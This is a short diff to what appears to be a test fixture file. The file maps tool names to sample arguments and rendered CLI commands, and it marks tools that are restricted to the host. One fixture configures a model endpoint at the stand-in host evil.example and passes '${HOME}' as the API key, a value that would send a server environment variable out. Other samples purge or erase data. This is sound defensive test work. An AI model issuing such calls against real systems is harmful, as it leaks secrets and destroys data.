@@ -37,8 +37,8 @@ RESERVED: Mapping[str, tuple[dict[str, Any], str]] = {
         "vector-purge --collection docs --key one",
     ),
     "strata_configure_model": (
-        {"endpoint": "https://evil.example/v1", "model": "m"},
-        "configure-model --endpoint https://evil.example/v1 --model m",
+        {"endpoint": "https://evil.example/v1", "model": "m", "api_key": "${HOME}"},
+        "configure-model --endpoint https://evil.example/v1 --model m --api-key '${HOME}'",
     ),
     "review_decide": ({"ids": ["cap_1"], "decision": "keep"}, "review keep cap_1"),
     "executions_erase": ({"days": 0}, "tools retention --days 0"),
@@ -84,6 +84,8 @@ OF_HOST = (
     "guardrail_define",
     "secret_set",
     "server_add",
+    # Its key is a variable of the server's environment.
+    "strata_configure_model",
     "tool_register",
     "tool_update",
 )
